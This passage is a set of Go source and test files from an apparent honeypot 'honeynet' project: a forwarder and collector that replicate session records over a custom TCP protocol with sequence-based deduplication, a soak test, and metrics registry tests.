		deadline = time.Time{}

		// Window: wait for acks while a full batch would overshoot.
		if int(cursor-acked)+f.opts.batch() > f.opts.ackWindow() {
			select {
			case <-f.stop:
				return errStopped
			case <-readerDone:
				return *readerErr
			case <-ackCh:
			}
			continue
		}

		// Assemble one batch from the store snapshot at the cursor.
		cur := f.st.ScanSeq(cursor)
		count := 0
		body = body[:0]
		for count < f.opts.batch() && cur.Next() {
			if cur.Seq() != cursor+uint64(count) {
				cur.Close()
				return fmt.Errorf("fleet: store sequence jumped to %d at cursor %d", cur.Seq(), cursor)
			}
			body = appendBatchRecord(body, cur.Line())
			count++
		}
		err := cur.Err()
		cur.Close()
		if err != nil {
			return err
		}
		if count == 0 {
			continue
		}

		// Never forward past the local durability horizon: a record
		// the collector accepts must survive our own kill -9.
		top := cursor + uint64(count)
		f.mu.Lock()
		durable := f.durable
		f.mu.Unlock()
		if top > durable {
			target := f.st.NextSeq()
			if err := f.st.Flush(); err != nil {
				return fmt.Errorf("fleet: flush before forward: %w", err)
			}
			f.flushes.Add(1)
			f.mu.Lock()
			if target > f.durable {
				f.durable = target
			}
			f.mu.Unlock()
		}

		if err := f.fault("send"); err != nil {
			return err
		}
		head = batchHeader(head, cursor, count)
		if err := writeFrame(bw, frameBatch, head, body); err != nil {
			return err
		}
		if err := bw.Flush(); err != nil {
			return err
		}
		f.sent.Add(int64(count))
		f.batches.Add(1)
		f.mu.Lock()
		// A collector rewind may have moved the cursor while we
		// assembled; only advance forward from what we actually sent.
		if f.cursor == cursor {
			f.cursor = top
		}
		f.mu.Unlock()
	}
}

// parseCursorFrame decodes a helloAck or ack frame, surfacing server
// error frames as errors.
func parseCursorFrame(typ byte, payload []byte, want byte) (uint64, error) {
	switch typ {
	case want:
		var m cursorMsg
		if err := json.Unmarshal(payload, &m); err != nil {
			return 0, fmt.Errorf("fleet: corrupt cursor frame: %w", err)
		}
		return m.Next, nil
	case frameError:
		var m errMsg
		_ = json.Unmarshal(payload, &m)
		return 0, fmt.Errorf("fleet: collector rejected connection: %s", m.Msg)
	default:
		return 0, fmt.Errorf("fleet: unexpected frame type %d (want %d)", typ, want)
	}
}

// Lag returns how many local records the collector has not yet
// acknowledged.
func (f *Forwarder) Lag() uint64 {
	next := f.st.NextSeq()
	f.mu.Lock()
	acked := f.acked
	f.mu.Unlock()
	if next <= acked {
		return 0
	}
	return next - acked
}

// Acked returns the collector-confirmed contiguous sequence high water.
func (f *Forwarder) Acked() uint64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.acked
}

// Connected reports whether a collector session is currently live.
func (f *Forwarder) Connected() bool { return f.connected.Load() }

// WaitCaughtUp blocks until the collector has acknowledged every
// record the store held when the call was made, or the timeout
// elapses. It reports whether the target was reached.
func (f *Forwarder) WaitCaughtUp(timeout time.Duration) bool {
	target := f.st.NextSeq()
	deadline := time.Now().Add(timeout)
	for {
		if f.Acked() >= target {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// Close stops forwarding and waits for the background loop to exit.
// The local store is untouched: it remains the durable queue, and a
// future forwarder resumes from the collector's cursor.
func (f *Forwarder) Close() error {
	select {
	case <-f.stop:
	default:
		close(f.stop)
	}
	<-f.done
	return nil
}

// Register exposes the forwarder's counters and gauges on reg:
//
//	honeynet_fleet_forward_sent_total
//	honeynet_fleet_forward_batches_total
//	honeynet_fleet_forward_flushes_total
//	honeynet_fleet_forward_acked_seq
//	honeynet_fleet_forward_lag
//	honeynet_fleet_forward_redelivered_total
//	honeynet_fleet_forward_rewinds_total
//	honeynet_fleet_forward_reconnects_total
//	honeynet_fleet_forward_connected
func (f *Forwarder) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_fleet_forward_sent_total",
		"Records sent to the collector (including redeliveries).", f.sent.Load)
	reg.CounterFunc("honeynet_fleet_forward_batches_total",
		"Batch frames sent to the collector.", f.batches.Load)
	reg.CounterFunc("honeynet_fleet_forward_flushes_total",
		"WAL flushes forced so no record is forwarded before it is durable.", f.flushes.Load)
	reg.GaugeFunc("honeynet_fleet_forward_acked_seq",
		"Collector-acknowledged contiguous sequence high water.",
		func() float64 { return float64(f.ackedMetric.Load()) })
	reg.GaugeFunc("honeynet_fleet_forward_lag",
		"Local records not yet acknowledged by the collector.",
		func() float64 { return float64(f.Lag()) })
	reg.CounterFunc("honeynet_fleet_forward_redelivered_total",
		"Records re-sent after reconnects or collector rewinds.", f.redelivered.Load)
	reg.CounterFunc("honeynet_fleet_forward_rewinds_total",
		"Collector-commanded cursor rewinds (sequence gaps).", f.rewinds.Load)
	reg.CounterFunc("honeynet_fleet_forward_reconnects_total",
		"Connection attempts after the first.", f.reconnects.Load)
	reg.GaugeFunc("honeynet_fleet_forward_connected",
		"1 while a collector session is live.",
		func() float64 {
			if f.connected.Load() {
				return 1
			}
			return 0
		})
}
