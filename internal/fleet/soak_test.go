package fleet

import (
	"errors"
	"os"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/store"
)

// TestFleetSoak runs the whole distribution tier under churn: three
// edges appending concurrently, forwarders whose connections are
// randomly dropped by the fault hook, and scatter-gather scans racing
// the ingest. After the storm, every collector shard must hold exactly
// its edge's records. The duration comes from FLEET_SOAK (default a
// quick smoke); CI runs it for 60s under -race.
func TestFleetSoak(t *testing.T) {
	dur := 800 * time.Millisecond
	if v := os.Getenv("FLEET_SOAK"); v != "" {
		d, err := time.ParseDuration(v)
		if err != nil {
			t.Fatalf("FLEET_SOAK: %v", err)
		}
		dur = d
	}

	srv, err := NewServer(t.TempDir(), ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	nodes := []string{"soak-a", "soak-b", "soak-c"}
	edges := make([]*store.Store, len(nodes))
	fwds := make([]*Forwarder, len(nodes))
	for i, node := range nodes {
		edges[i], err = store.Open(t.TempDir(), store.Options{})
		if err != nil {
			t.Fatal(err)
		}
		var ops atomic.Int64
		drop := int64(151 + 64*i) // different drop cadence per edge
		fwds[i], err = NewForwarder(addr.String(), node, edges[i], Options{
			Batch:    32,
			MaxDelay: time.Millisecond,
			RetryMin: time.Millisecond,
			RetryMax: 20 * time.Millisecond,
			Fault: func(op string) error {
				if ops.Add(1)%drop == 0 {
					return errors.New("soak fault")
				}
				return nil
			},
		})
		if err != nil {
			t.Fatal(err)
		}
	}

	deadline := time.Now().Add(dur)
	var writers, scanners sync.WaitGroup
	stopScan := make(chan struct{})

	// Writers: each edge appends until the deadline.
	counts := make([]int, len(nodes))
	for i := range nodes {
		writers.Add(1)
		go func(i int) {
			defer writers.Done()
			for n := 0; time.Now().Before(deadline); n++ {
				if err := edges[i].Append(mkRec(n*len(nodes) + i)); err != nil {
					t.Errorf("edge %d append: %v", i, err)
					return
				}
				counts[i]++
				if n%64 == 0 {
					time.Sleep(time.Millisecond) // let batching vary
				}
			}
		}(i)
	}

	// Scanners: scatter-gather over the live collector while it ingests.
	for g := 0; g < 2; g++ {
		scanners.Add(1)
		go func() {
			defer scanners.Done()
			for {
				select {
				case <-stopScan:
					return
				default:
				}
				cur := srv.Fleet().Scan(store.TimeRange{}, nil)
				var prev time.Time
				var prevMonth time.Time
				for cur.Next() {
					r := cur.Record()
					m := r.Month()
					if m.Before(prevMonth) {
						t.Error("soak scan: month order violated")
						cur.Close()
						return
					}
					if m.Equal(prevMonth) && r.Start.Before(prev) {
						// Within one month the merge is ordered as long
						// as each shard stream is; edges append in time
						// order here, so this must hold.
						t.Error("soak scan: time order violated within month")
						cur.Close()
						return
					}
					prevMonth, prev = m, r.Start
				}
				if err := cur.Err(); err != nil {
					t.Errorf("soak scan: %v", err)
				}
				cur.Close()
			}
		}()
	}

	time.Sleep(time.Until(deadline))
	writers.Wait() // scanners keep racing the drain below

	for i, fwd := range fwds {
		if !fwd.WaitCaughtUp(60 * time.Second) {
			t.Fatalf("edge %d never caught up: acked %d of %d", i, fwd.Acked(), edges[i].NextSeq())
		}
	}
	close(stopScan)
	scanners.Wait()
	for i, fwd := range fwds {
		if err := fwd.Close(); err != nil {
			t.Errorf("edge %d close: %v", i, err)
		}
		if counts[i] == 0 {
			t.Errorf("edge %d appended nothing — soak too short to mean anything", i)
		}
		assertShardEquals(t, srv, nodes[i], edges[i])
		edges[i].Close()
	}
}
