// Package fleet is the honeynet's distribution tier: many honeypotd
// edge nodes stream session records to a collector over a
// dependency-free, length-prefixed wire protocol, and the collector
// writes one store shard per node that the scatter-gather query engine
// (store.OpenFleet) serves to the unchanged analysis pipeline.
//
// Delivery contract: at-least-once from the edge, exactly-once in the
// collector. Each edge's local store is its durable send queue — the
// WAL sequence doubles as the replication cursor — and the forwarder
// never ships a record that is not yet durable locally, so a kill -9
// on either side can only redeliver, never diverge. The collector
// accepts each node's records strictly in sequence order and drops
// duplicates by (nodeID, seq); a gap (a sequence from the future) is
// answered with the expected cursor so the client rewinds.
//
// Wire format, over one TCP connection per edge:
//
//	frame    := len(uint32 BE, over type+payload) | type(byte) | payload
//	hello    := JSON {"v":1,"node":"edge-1"}          client -> server
//	helloAck := JSON {"next":N}                       server -> client: resume cursor
//	batch    := uvarint base | uvarint count |        client -> server
//	            count x (uvarint len | record JSON)
//	ack      := JSON {"next":N}                       server -> client: contiguous high water
//	error    := JSON {"msg":...}, then close          server -> client
//
// Record payloads are the store's canonical JSON lines, so an edge
// forwards sealed history without re-encoding a single record.
package fleet

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
)

// ProtocolVersion is bumped on incompatible wire changes; the server
// rejects a hello whose version disagrees.
const ProtocolVersion = 1

// Frame types.
const (
	frameHello    byte = 1
	frameHelloAck byte = 2
	frameBatch    byte = 3
	frameAck      byte = 4
	frameError    byte = 5
)

// maxFrame bounds one frame (64 MiB): far above any sane batch, low
// enough that a corrupt or hostile length prefix cannot balloon memory.
const maxFrame = 64 << 20

// helloMsg opens a connection: protocol version and node identity.
type helloMsg struct {
	V    int    `json:"v"`
	Node string `json:"node"`
}

// cursorMsg carries a sequence cursor: helloAck and ack frames both
// name the next sequence the collector expects from the node.
type cursorMsg struct {
	Next uint64 `json:"next"`
}

// errMsg is the server's parting diagnostic before closing.
type errMsg struct {
	Msg string `json:"msg"`
}

// writeFrame writes one frame from up to two payload chunks (header
// and body), so a batch needs no extra copy to become contiguous.
func writeFrame(w io.Writer, typ byte, head, body []byte) error {
	n := 1 + len(head) + len(body)
	if n > maxFrame {
		return fmt.Errorf("fleet: frame of %d bytes exceeds limit", n)
	}
	var pre [5]byte
	binary.BigEndian.PutUint32(pre[:4], uint32(n))
	pre[4] = typ
	if _, err := w.Write(pre[:]); err != nil {
		return err
	}
	if len(head) > 0 {
		if _, err := w.Write(head); err != nil {
			return err
		}
	}
	if len(body) > 0 {
		if _, err := w.Write(body); err != nil {
			return err
		}
	}
	return nil
}

// writeJSONFrame marshals v as the frame payload.
func writeJSONFrame(w io.Writer, typ byte, v any) error {
	p, err := json.Marshal(v)
	if err != nil {
		return err
	}
	return writeFrame(w, typ, p, nil)
}

// readFrame reads one frame, reusing *buf for the payload.
func readFrame(r io.Reader, buf *[]byte) (typ byte, payload []byte, err error) {
	var pre [5]byte
	if _, err := io.ReadFull(r, pre[:]); err != nil {
		return 0, nil, err
	}
	n := binary.BigEndian.Uint32(pre[:4])
	if n < 1 || n > maxFrame {
		return 0, nil, fmt.Errorf("fleet: bad frame length %d", n)
	}
	typ = pre[4]
	need := int(n) - 1
	if cap(*buf) < need {
		*buf = make([]byte, need)
	}
	payload = (*buf)[:need]
	if _, err := io.ReadFull(r, payload); err != nil {
		return 0, nil, err
	}
	return typ, payload, nil
}

// appendBatchRecord appends one record line (uvarint length + bytes)
// to a batch body under construction.
func appendBatchRecord(body, line []byte) []byte {
	body = binary.AppendUvarint(body, uint64(len(line)))
	return append(body, line...)
}

// batchHeader encodes the base sequence and record count.
func batchHeader(head []byte, base uint64, count int) []byte {
	head = binary.AppendUvarint(head[:0], base)
	return binary.AppendUvarint(head, uint64(count))
}

// parseBatch splits a batch payload into its base sequence, record
// count, and the packed record section.
func parseBatch(p []byte) (base uint64, count int, rest []byte, err error) {
	base, n := binary.Uvarint(p)
	if n <= 0 {
		return 0, 0, nil, fmt.Errorf("fleet: corrupt batch base")
	}
	p = p[n:]
	c, n := binary.Uvarint(p)
	if n <= 0 {
		return 0, 0, nil, fmt.Errorf("fleet: corrupt batch count")
	}
	return base, int(c), p[n:], nil
}

// nextBatchRecord pops the next record line off the packed section.
func nextBatchRecord(rest []byte) (line, remainder []byte, err error) {
	ln, n := binary.Uvarint(rest)
	if n <= 0 || n+int(ln) > len(rest) {
		return nil, nil, fmt.Errorf("fleet: corrupt batch record")
	}
	return rest[n : n+int(ln)], rest[n+int(ln):], nil
}
