package fleet

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"sync"
	"sync/atomic"

	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/store"
)

// ServerOptions parameterizes a collector.
type ServerOptions struct {
	// Store configures every per-node shard the collector opens.
	Store store.Options
	// SyncAck makes the collector flush a shard's WAL before each ack,
	// so an acknowledged record survives a collector kill -9. Off, a
	// collector crash can lose acked records — the edge keeps them
	// locally regardless (its store is never truncated), so nothing is
	// lost from the fleet, but the collector's copy lags until the
	// edges resend or operators re-sync. On by default in hncollect.
	SyncAck bool
	// OnRecord, if set, observes every record after it commits to its
	// node's shard (exactly once per sequence — duplicates and gaps
	// never reach it). It runs on the connection's ingest goroutine;
	// hncollect points it at the live analytics pipeline.
	OnRecord func(node string, r *session.Record)
}

// Server is the collector: it accepts edge connections, writes one
// store shard per node under its fleet directory, and deduplicates
// at-least-once delivery by accepting each node's records strictly in
// sequence order. The shard's own record count is the dedup ledger —
// sequences are dense from zero — so a restarted collector recovers
// its per-node cursors for free by opening the shards.
type Server struct {
	dir  string
	opts ServerOptions

	ln     net.Listener
	wg     sync.WaitGroup
	mu     sync.Mutex // guards shards, conns, closed
	shards map[string]*store.Store
	conns  map[net.Conn]struct{}
	closed bool

	received  atomic.Int64
	dups      atomic.Int64
	gaps      atomic.Int64
	batchesIn atomic.Int64
	acksOut   atomic.Int64
	sessions  atomic.Int64
	rejected  atomic.Int64
}

// NewServer creates a collector over the fleet directory dir, stamping
// the fleet marker and opening any shards left by a previous run.
func NewServer(dir string, opts ServerOptions) (*Server, error) {
	if err := opts.Store.Validate(); err != nil {
		return nil, err
	}
	if err := store.WriteFleetMarker(dir); err != nil {
		return nil, err
	}
	s := &Server{
		dir:    dir,
		opts:   opts,
		shards: map[string]*store.Store{},
		conns:  map[net.Conn]struct{}{},
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	for _, e := range entries {
		if !e.IsDir() {
			continue
		}
		const p = store.NodeDirPrefix
		if len(e.Name()) <= len(p) || e.Name()[:len(p)] != p {
			continue
		}
		node := e.Name()[len(p):]
		st, err := store.Open(store.ShardDir(dir, node), opts.Store)
		if err != nil {
			s.Close()
			return nil, fmt.Errorf("fleet: reopen shard %s: %w", node, err)
		}
		s.shards[node] = st
	}
	return s, nil
}

// Listen binds addr and starts accepting edge connections in the
// background. The returned address is useful with ":0" listeners.
func (s *Server) Listen(addr string) (net.Addr, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		ln.Close()
		return nil, fmt.Errorf("fleet: server closed")
	}
	s.ln = ln
	s.mu.Unlock()
	s.wg.Add(1)
	go s.acceptLoop(ln)
	return ln.Addr(), nil
}

func (s *Server) acceptLoop(ln net.Listener) {
	defer s.wg.Done()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return // listener closed
		}
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			conn.Close()
			return
		}
		s.conns[conn] = struct{}{}
		s.mu.Unlock()
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			s.handle(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

// shard returns (opening if needed) the store for one node.
func (s *Server) shard(node string) (*store.Store, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil, fmt.Errorf("fleet: server closed")
	}
	if st, ok := s.shards[node]; ok {
		return st, nil
	}
	st, err := store.Open(store.ShardDir(s.dir, node), s.opts.Store)
	if err != nil {
		return nil, err
	}
	s.shards[node] = st
	return st, nil
}

// handle runs one edge connection: hello, resume ack, then the batch
// loop. One goroutine per connection; reads, appends, and acks are
// sequential, so per-node sequence checks need no extra locking (one
// node id should have at most one live connection; a second one is
// safe but they will duplicate-suppress each other).
func (s *Server) handle(conn net.Conn) {
	defer conn.Close()
	br := bufio.NewReaderSize(conn, 256<<10)
	bw := bufio.NewWriterSize(conn, 16<<10)
	var buf []byte

	typ, payload, err := readFrame(br, &buf)
	if err != nil {
		return
	}
	var hello helloMsg
	if typ != frameHello || json.Unmarshal(payload, &hello) != nil {
		s.reject(bw, "expected hello frame")
		return
	}
	if hello.V != ProtocolVersion {
		s.reject(bw, fmt.Sprintf("protocol version %d unsupported (want %d)", hello.V, ProtocolVersion))
		return
	}
	if !store.ValidNodeID(hello.Node) {
		s.reject(bw, fmt.Sprintf("invalid node id %q", hello.Node))
		return
	}
	st, err := s.shard(hello.Node)
	if err != nil {
		s.reject(bw, "shard open failed")
		return
	}
	next := st.NextSeq()
	if err := writeJSONFrame(bw, frameHelloAck, cursorMsg{Next: next}); err != nil {
		return
	}
	if err := bw.Flush(); err != nil {
		return
	}
	s.sessions.Add(1)
	defer s.sessions.Add(-1)

	dec := &session.JSONDecoder{}
	for {
		typ, payload, err := readFrame(br, &buf)
		if err != nil {
			return
		}
		if typ != frameBatch {
			s.reject(bw, fmt.Sprintf("unexpected frame type %d", typ))
			return
		}
		s.batchesIn.Add(1)
		base, count, rest, err := parseBatch(payload)
		if err != nil {
			s.reject(bw, err.Error())
			return
		}
		progressed := false
		for i := 0; i < count; i++ {
			var line []byte
			if line, rest, err = nextBatchRecord(rest); err != nil {
				s.reject(bw, err.Error())
				return
			}
			seq := base + uint64(i)
			switch {
			case seq < next:
				s.dups.Add(1) // already committed: at-least-once redelivery
			case seq > next:
				// A sequence from the future: drop the remainder and
				// re-state our cursor; the no-progress ack tells the
				// client to rewind (a TCP client never triggers this).
				s.gaps.Add(1)
				i = count
			default:
				r := &session.Record{}
				if err := dec.Decode(line, r); err != nil {
					s.reject(bw, fmt.Sprintf("corrupt record at seq %d: %v", seq, err))
					return
				}
				if err := st.Append(r); err != nil {
					s.reject(bw, "append failed")
					return
				}
				if s.opts.OnRecord != nil {
					s.opts.OnRecord(hello.Node, r)
				}
				next++
				progressed = true
				s.received.Add(1)
			}
		}
		if progressed && s.opts.SyncAck {
			if err := st.Flush(); err != nil {
				s.reject(bw, "flush failed")
				return
			}
		}
		if err := writeJSONFrame(bw, frameAck, cursorMsg{Next: next}); err != nil {
			return
		}
		if err := bw.Flush(); err != nil {
			return
		}
		s.acksOut.Add(1)
	}
}

// reject sends a best-effort error frame before closing.
func (s *Server) reject(bw *bufio.Writer, msg string) {
	s.rejected.Add(1)
	if writeJSONFrame(bw, frameError, errMsg{Msg: msg}) == nil {
		bw.Flush()
	}
}

// Fleet returns a live scatter-gather view over the collector's
// shards. The server keeps ownership of the stores: do not Close the
// returned fleet, and take a fresh view after new nodes connect.
func (s *Server) Fleet() *store.Fleet {
	s.mu.Lock()
	defer s.mu.Unlock()
	shards := make([]store.Shard, 0, len(s.shards))
	for node, st := range s.shards {
		shards = append(shards, store.Shard{Node: node, Store: st})
	}
	return store.NewFleet(shards)
}

// Nodes returns how many node shards the collector holds.
func (s *Server) Nodes() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.shards)
}

// Len returns the total record count across shards.
func (s *Server) Len() int {
	s.mu.Lock()
	shards := make([]*store.Store, 0, len(s.shards))
	for _, st := range s.shards {
		shards = append(shards, st)
	}
	s.mu.Unlock()
	n := 0
	for _, st := range shards {
		n += st.Len()
	}
	return n
}

// Close stops accepting, drops live connections, and closes every
// shard (sealing their tails).
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	ln := s.ln
	for conn := range s.conns {
		conn.Close()
	}
	s.mu.Unlock()
	if ln != nil {
		ln.Close()
	}
	s.wg.Wait()
	var err error
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, st := range s.shards {
		if cerr := st.Close(); err == nil {
			err = cerr
		}
	}
	s.shards = map[string]*store.Store{}
	return err
}

// Register exposes the collector's counters and gauges on reg:
//
//	honeynet_fleet_received_total
//	honeynet_fleet_duplicate_total
//	honeynet_fleet_gap_total
//	honeynet_fleet_batches_received_total
//	honeynet_fleet_acks_sent_total
//	honeynet_fleet_rejects_total
//	honeynet_fleet_nodes
//	honeynet_fleet_connections
//	honeynet_fleet_collected_records
func (s *Server) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_fleet_received_total",
		"Records accepted and appended to node shards.", s.received.Load)
	reg.CounterFunc("honeynet_fleet_duplicate_total",
		"Redelivered records dropped by sequence dedup.", s.dups.Load)
	reg.CounterFunc("honeynet_fleet_gap_total",
		"Batches dropped for skipping ahead of a node's cursor.", s.gaps.Load)
	reg.CounterFunc("honeynet_fleet_batches_received_total",
		"Batch frames received.", s.batchesIn.Load)
	reg.CounterFunc("honeynet_fleet_acks_sent_total",
		"Ack frames sent.", s.acksOut.Load)
	reg.CounterFunc("honeynet_fleet_rejects_total",
		"Connections rejected with an error frame.", s.rejected.Load)
	reg.GaugeFunc("honeynet_fleet_nodes",
		"Node shards held by this collector.",
		func() float64 { return float64(s.Nodes()) })
	reg.GaugeFunc("honeynet_fleet_connections",
		"Live edge connections.",
		func() float64 { return float64(s.sessions.Load()) })
	reg.GaugeFunc("honeynet_fleet_collected_records",
		"Total records across node shards.",
		func() float64 { return float64(s.Len()) })
}
