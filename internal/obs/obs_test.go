package obs

import (
	"math"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestConcurrentIncrements hammers one counter, one gauge, and one
// histogram from many goroutines; totals must be exact (run under
// -race in CI).
func TestConcurrentIncrements(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("test_ops_total", "ops")
	g := r.Gauge("test_level", "level")
	h := r.Histogram("test_dur_seconds", "durations", []float64{0.1, 1, 10})

	const goroutines, per = 16, 1000
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < per; j++ {
				c.Inc()
				g.Add(1)
				h.Observe(float64(i%3) + 0.05)
			}
		}(i)
	}
	wg.Wait()

	if got := c.Value(); got != goroutines*per {
		t.Errorf("counter = %d, want %d", got, goroutines*per)
	}
	if got := g.Value(); got != goroutines*per {
		t.Errorf("gauge = %v, want %d", got, goroutines*per)
	}
	if got := h.Count(); got != goroutines*per {
		t.Errorf("histogram count = %d, want %d", got, goroutines*per)
	}
}

// TestCounterNeverDecrements: negative Adds are dropped.
func TestCounterNeverDecrements(t *testing.T) {
	var c Counter
	c.Add(5)
	c.Add(-3)
	if got := c.Value(); got != 5 {
		t.Errorf("counter = %d, want 5", got)
	}
}

// TestNilInstrumentsAreSafe: every instrument and the registry itself
// must tolerate nil receivers, so unobserved components need no guards.
func TestNilInstrumentsAreSafe(t *testing.T) {
	var c *Counter
	var g *Gauge
	var h *Histogram
	var tr *Tracer
	var reg *Registry
	c.Inc()
	c.Add(3)
	g.Set(1)
	g.Add(1)
	h.Observe(1)
	tr.Span("x").End()
	tr.Record("y", time.Second)
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || h.Sum() != 0 {
		t.Error("nil instruments should read zero")
	}
	if tr.Phases() != nil {
		t.Error("nil tracer should have no phases")
	}
	// A nil registry hands out working orphan instruments.
	reg.Counter("a", "").Inc()
	reg.Gauge("b", "").Set(1)
	reg.Histogram("c", "", []float64{1}).Observe(2)
	reg.CounterFunc("d", "", func() int64 { return 1 })
	reg.GaugeFunc("e", "", func() float64 { return 1 })
	if err := reg.WritePrometheus(&strings.Builder{}); err != nil {
		t.Errorf("nil registry WritePrometheus: %v", err)
	}
	if len(reg.Snapshot()) != 0 {
		t.Error("nil registry snapshot should be empty")
	}
}

// TestHistogramBucketEdges: a value exactly on an upper bound lands in
// that bucket (le is inclusive), one past it in the next, and values
// beyond the last bound in +Inf.
func TestHistogramBucketEdges(t *testing.T) {
	h := newHistogram([]float64{1, 2, 4})
	for _, v := range []float64{1, 2, 4} {
		h.Observe(v) // each exactly on a bound
	}
	h.Observe(math.Nextafter(1, 2)) // just past 1 -> bucket le=2
	h.Observe(4.0001)               // past the last bound -> +Inf
	h.Observe(0)                    // below everything -> le=1

	want := []int64{2, 2, 1, 1} // le=1, le=2, le=4, +Inf (non-cumulative)
	for i, w := range want {
		if got := h.counts[i].Load(); got != w {
			t.Errorf("bucket %d = %d, want %d", i, got, w)
		}
	}
	if got := h.Count(); got != 6 {
		t.Errorf("count = %d, want 6", got)
	}
	if got, want := h.Sum(), 1+2+4+math.Nextafter(1, 2)+4.0001+0; math.Abs(got-want) > 1e-9 {
		t.Errorf("sum = %v, want %v", got, want)
	}
}

// TestExpositionGolden locks the Prometheus text format: HELP/TYPE
// headers, sorted families, sorted+escaped labels, cumulative histogram
// buckets with le, _sum and _count.
func TestExpositionGolden(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("hn_conns_total", "connections", L("proto", "ssh"))
	c.Add(7)
	r.Counter("hn_conns_total", "connections", L("proto", "telnet")).Add(2)
	r.GaugeFunc("hn_active", "active now", func() float64 { return 3 })
	h := r.Histogram("hn_dur_seconds", "session durations", []float64{0.5, 2})
	h.Observe(0.25)
	h.Observe(0.5) // on the edge: le="0.5"
	h.Observe(1.7)
	h.Observe(99)
	r.Counter("aa_first", "sorts first", L("q", `va"l\ue`)).Inc()

	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	want := `# HELP aa_first sorts first
# TYPE aa_first counter
aa_first{q="va\"l\\ue"} 1
# HELP hn_active active now
# TYPE hn_active gauge
hn_active 3
# HELP hn_conns_total connections
# TYPE hn_conns_total counter
hn_conns_total{proto="ssh"} 7
hn_conns_total{proto="telnet"} 2
# HELP hn_dur_seconds session durations
# TYPE hn_dur_seconds histogram
hn_dur_seconds_bucket{le="0.5"} 2
hn_dur_seconds_bucket{le="2"} 3
hn_dur_seconds_bucket{le="+Inf"} 4
hn_dur_seconds_sum 101.45
hn_dur_seconds_count 4
`
	if got := b.String(); got != want {
		t.Errorf("exposition mismatch:\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

// TestRegistryDuplicatePanics: re-registering the same (name, labels)
// or changing a family's type is a bug and must fail loudly.
func TestRegistryDuplicatePanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("x_total", "x")
	for name, f := range map[string]func(){
		"dup-series":  func() { r.Counter("x_total", "x") },
		"type-change": func() { r.Gauge("x_total", "x") },
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("%s: expected panic", name)
				}
			}()
			f()
		}()
	}
}

// TestSnapshotFlattens: snapshot carries labeled series and histogram
// sub-series under their exposition names.
func TestSnapshotFlattens(t *testing.T) {
	r := NewRegistry()
	r.Counter("s_total", "", L("k", "v")).Add(4)
	h := r.Histogram("s_dur", "", []float64{1})
	h.Observe(0.5)
	h.Observe(3)
	snap := r.Snapshot()
	checks := map[string]float64{
		`s_total{k="v"}`:          4,
		`s_dur_bucket{le="1"}`:    1,
		`s_dur_bucket{le="+Inf"}`: 2,
		`s_dur_count`:             2,
		`s_dur_sum`:               3.5,
	}
	for k, want := range checks {
		if got, ok := snap[k]; !ok || got != want {
			t.Errorf("snapshot[%q] = %v (present=%v), want %v", k, got, ok, want)
		}
	}
}

// TestTracerAggregates: same-name spans accumulate count/total/max in
// first-seen order, with an injectable clock.
func TestTracerAggregates(t *testing.T) {
	now := time.Unix(0, 0)
	tr := NewTracer()
	tr.Now = func() time.Time { return now }

	s := tr.Span("matrix")
	now = now.Add(100 * time.Millisecond)
	s.End()
	s = tr.Span("matrix")
	now = now.Add(300 * time.Millisecond)
	s.End()
	tr.Record("kmedoids", 50*time.Millisecond)

	ph := tr.Phases()
	if len(ph) != 2 || ph[0].Name != "matrix" || ph[1].Name != "kmedoids" {
		t.Fatalf("phases = %+v", ph)
	}
	if ph[0].Count != 2 || ph[0].Total != 400*time.Millisecond || ph[0].Max != 300*time.Millisecond {
		t.Errorf("matrix agg = %+v", ph[0])
	}
	var b strings.Builder
	tr.WriteTable(&b)
	out := b.String()
	for _, want := range []string{"phase", "matrix", "kmedoids", "share"} {
		if !strings.Contains(out, want) {
			t.Errorf("table missing %q:\n%s", want, out)
		}
	}
}

// TestAdminMux drives /metrics, /healthz (both states) and /debug/vars.
func TestAdminMux(t *testing.T) {
	r := NewRegistry()
	r.Counter("adm_total", "x").Add(9)
	unhealthy := false
	mux := AdminMux(r, func() error {
		if unhealthy {
			return errDraining
		}
		return nil
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	get := func(path string) (int, string) {
		resp, err := srv.Client().Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var b strings.Builder
		buf := make([]byte, 4096)
		for {
			n, err := resp.Body.Read(buf)
			b.Write(buf[:n])
			if err != nil {
				break
			}
		}
		return resp.StatusCode, b.String()
	}

	if code, body := get("/metrics"); code != 200 || !strings.Contains(body, "adm_total 9") {
		t.Errorf("/metrics = %d %q", code, body)
	}
